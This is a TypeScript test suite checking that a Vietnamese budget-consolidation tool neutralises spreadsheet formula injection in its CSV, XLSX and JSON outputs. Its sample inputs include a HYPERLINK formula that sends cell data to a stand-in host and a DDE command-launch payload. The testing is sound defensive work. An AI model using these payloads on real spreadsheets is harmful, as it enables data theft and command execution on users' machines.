import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import * as XLSX from "xlsx";
import { FORM_SHEET, type Row, workbookBytes } from "../../scripts/hostile-sheets.js";
import { parseDelimited } from "../../src/read/text/delimited-text.js";
import { csvField, FORMULA_START } from "../../src/write/csv-cell.js";
import { budget, CRASH } from "./cli-run.js";
import { tempFolder } from "./hostile-run.js";

/** Text that a spreadsheet would run, or that a CSV reader would take for a formula. */
const HOSTILE = [
  '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm vào đây")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "-2+3",
  "＝1+1",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "＋1+1",
] as const;

/** A form whose agency, tasks and funding sources are all hostile text; nine tasks of 10 each. */
function hostileForm(): Buffer {
  const rows: Row[] = [
    ["BIỂU ĐỀ XUẤT NHIỆM VỤ CHUYỂN ĐỔI SỐ NĂM 2025 - 2026"],
    ["Đơn vị tính: triệu đồng"],
    ["STT", "Tên nhiệm vụ", "Thời gian thực hiện", "Tổng kinh phí", "Nguồn vốn", "Trong đó", null, "Phù hợp với chủ trương, định hướng, chiến lược", null],
    [null, null, null, null, null, "2025", "2026", "Hạ tầng kỹ thuật, công nghệ", "Dữ liệu"],
    ["1", "=1+1", null, 90, null, 90, null, null, null],
    ...HOSTILE.map((text, i): Row => [`1.${i + 1}`, text, "2025", 10, "@SUM(9)", 10, null, "x", null]),
  ];
  return workbookBytes([[FORM_SHEET, rows]]);
}

/** Every cell of every sheet of a workbook: its text value and formula, if any. */
function cells(bytes: Uint8Array): Array<{ sheet: string; ref: string; type: string; value: unknown; formula: string | undefined }> {
  const workbook = XLSX.read(bytes, { cellFormula: true });
  return workbook.SheetNames.flatMap((sheet) => {
    const ws = workbook.Sheets[sheet] ?? {};
    return Object.keys(ws)
      .filter((ref) => !ref.startsWith("!"))
      .map((ref) => {
        const cell: XLSX.CellObject | undefined = ws[ref];
        return { sheet, ref, type: cell?.t ?? "", value: cell?.v, formula: cell?.f };
      });
  });
}

/** Our own formulas: SUMs of cell ranges, differences and IFs of cells, SUMPRODUCT over codes. No input text. */
const OWN_FORMULA = /^(SUM\(([A-Z]+\d+(:[A-Z]+\d+)?,?)+\)|0|[A-Z]+\d+-[A-Z]+\d+|IF\([A-Z]+\d+=0,"",\([A-Z]+\d+-[A-Z]+\d+\)\/[A-Z]+\d+\))$/;

/** Asserts a workbook holds the hostile texts only as text cells, and no formula but our own. */
function expectInert(bytes: Uint8Array, texts: readonly string[]): void {
  const all = cells(bytes);
  for (const cell of all.filter((c) => c.formula !== undefined)) expect(cell.formula, `${cell.sheet}!${cell.ref}`).toMatch(OWN_FORMULA);
  const hostile = all.filter((c) => typeof c.value === "string" && FORMULA_START.test(c.value));
  expect(hostile.length).toBeGreaterThan(0);
  for (const cell of hostile) expect([cell.type, cell.formula], `${cell.sheet}!${cell.ref} ${String(cell.value)}`).toEqual(["s", undefined]);
  const values = new Set(all.map((c) => c.value));
  for (const text of texts)
    expect(values.has(text.trim()) || values.has(text) || [...values].some((v) => typeof v === "string" && v.includes(text.trim())), text).toBe(true);
}

/** Asserts no field of a CSV document could be taken for a formula: amounts are plain decimals, the rest neutralised. */
function expectNeutralCsv(csv: string): void {
  const records = parseDelimited(csv, ",");
  expect(records.length).toBeGreaterThan(1);
  for (const field of records.flat()) {
    if (/^-?\d+(\.\d+)?$/.test(field)) continue;
    expect(FORMULA_START.test(field), JSON.stringify(field)).toBe(false);
  }
}

describe("formula injection: hostile text in inputs never becomes a live formula in any output", () => {
  let folder = "";
  let input = "";
  beforeAll(() => {
    folder = tempFolder();
    input = join(folder, "=1+1.xlsx");
    writeFileSync(input, hostileForm());
  });

  it("csvField neutralises every hostile start, and leaves amounts and plain text alone", () => {
    for (const text of HOSTILE) expect(csvField(text).replace(/^"/, "").startsWith("'"), JSON.stringify(text)).toBe(true);
    expect(csvField("-1234.5", "amount")).toBe("-1234.5");
    expect(csvField("Sở Tư pháp")).toBe("Sở Tư pháp");
    expect(csvField("a, b")).toBe('"a, b"');
    expect(csvField('=1+"1"')).toBe(`"'=1+""1"""`);
  });

  it("the appendix workbook (budget consolidate) holds the text as text cells and only its own SUM formulas", async () => {
    const output = join(tempFolder("budget-out-"), "phu-luc.xlsx");
    const { code, stderr } = await budget("consolidate", input, "-o", output, "--format", "none");
    expect(stderr).not.toMatch(CRASH);
    expect(code).toBe(0);
    expectInert(readFileSync(output), [...HOSTILE, "=1+1", input]);
  });

  it("budget totals CSV, with and without --by, neutralises every text field", async () => {
    const plain = await budget("totals", input, "--format", "csv");
    expect(plain.code).toBe(0);
    expectNeutralCsv(plain.stdout);
    expect(plain.stdout).toContain("'=1+1");
    const pivoted = await budget("totals", input, "--by", "agency,source,period", "--format", "csv");
    expect(pivoted.code).toBe(0);
    expectNeutralCsv(pivoted.stdout);
    // A source the plan does not know is counted as unknown, never as a code made from its text.
    expect(pivoted.stdout).toContain(",Không rõ nguồn,");
    expect(pivoted.stdout).not.toContain("SUM(9)");
  });

  it("budget totals JSON keeps the text exactly, as JSON strings", async () => {
    const { stdout } = await budget("totals", input, "--by", "agency,source", "--format", "json");
    const document: unknown = JSON.parse(stdout);
    expect(document).toMatchObject({ rows: [{ keys: { agency: "=1+1", source: "?" }, amount: "90" }] });
  });

  it("budget rollup to CSV, JSON and a workbook: the same", async () => {
    const out = tempFolder("budget-out-");
    const appendix = join(out, "=cmd.xlsx");
    expect((await budget("consolidate", input, "-o", appendix, "--format", "none")).code).toBe(0);
    const csv = await budget("rollup", appendix, "--by", "agency,source,input");
    expect(csv.stderr).not.toMatch(CRASH);
    const toCsv = await budget("rollup", appendix, "--by", "agency,source,input", "-o", join(out, "r.csv"));
    expect(toCsv.code).toBe(0);
    expectNeutralCsv(readFileSync(join(out, "r.csv"), "utf8"));
    expect(readFileSync(join(out, "r.csv"), "utf8")).toContain("'=cmd");
    expect((await budget("rollup", appendix, "-o", join(out, "r.xlsx"))).code).toBe(0);
    expectInert(readFileSync(join(out, "r.xlsx")), ["=1+1"]);
    expect((await budget("rollup", appendix, "--by", "agency", "-o", join(out, "r.json"))).code).toBe(0);
    expect(JSON.parse(readFileSync(join(out, "r.json"), "utf8"))).toMatchObject({ nodes: [{ key: "=1+1" }] });
  });
});
